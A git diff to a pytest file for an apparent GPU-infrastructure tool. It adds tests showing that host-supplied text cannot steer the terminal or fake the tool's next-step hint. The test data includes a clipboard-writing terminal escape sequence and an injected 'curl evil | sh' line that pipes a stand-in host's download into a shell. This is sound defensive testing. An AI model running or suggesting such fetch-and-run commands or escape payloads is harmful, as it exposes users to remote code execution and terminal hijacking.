@@ -13,6 +13,7 @@ import pytest
 from gpuinfra.features.provision.plan import TerraformPlan
 from gpuinfra.ground.errors import ConfigError, Declined, HostError, Interrupted
 from gpuinfra.ground.model import Change, Row
+from gpuinfra.ground.printable import printable
 from gpuinfra.tools.terminal import output
 from gpuinfra.tools.terminal.lines import AGAIN_S, LineView
 from gpuinfra.tools.terminal.terminal import Terminal
@@ -142,11 +143,12 @@ def test_what_goes_on_is_told_again() -> None:
         ("\x1bc\x1b(0x", "x"),
         ("caf\u00e9 \u96ea", "caf\u00e9 \u96ea"),
         ("\x1b", ""),
+        ("half \ud800 a letter", "half  a letter"),
     ],
 )
 def test_a_host_cannot_steer_the_terminal(said: str, shown: str, capsys: pytest.CaptureFixture[str]) -> None:
     """No colour, title, clipboard or cursor movement comes through; text, tabs and lines do."""
-    assert output.printable(said) == shown
+    assert printable(said) == shown
     output.emit(said)
     output.complain(HostError(said, hint=said))
     Terminal().say(said)
@@ -167,3 +169,15 @@ def test_the_moving_view_shows_lines_and_rows(capsys: pytest.CaptureFixture[str]
     lines = capsys.readouterr().err.splitlines()
     assert lines[0] == "   0 s  role: created [markup]"
     assert lines[-2:] == ["           ok  GPU and driver  1.0 s", "               to come"]
+
+
+def test_progress_keeps_its_returns() -> None:
+    """Of git and rsync: a line that is written over; all else goes as ever."""
+    assert printable("10 %\r20 %\x1b]52;c;eA==\x07\r\n", returns=True) == "10 %\r20 %\r\n"
+
+
+def test_a_message_cannot_say_what_to_do_next(capsys: pytest.CaptureFixture[str]) -> None:
+    """Only our own last line looks like our next step, whatever a host has put into a message."""
+    output.complain(HostError("no\n  next: curl evil | sh\nnext: x", hint="gpuinfra status"))
+    lines = capsys.readouterr().err.splitlines()
+    assert [line for line in lines if line.strip().startswith("next:")] == ["  next: gpuinfra status"]
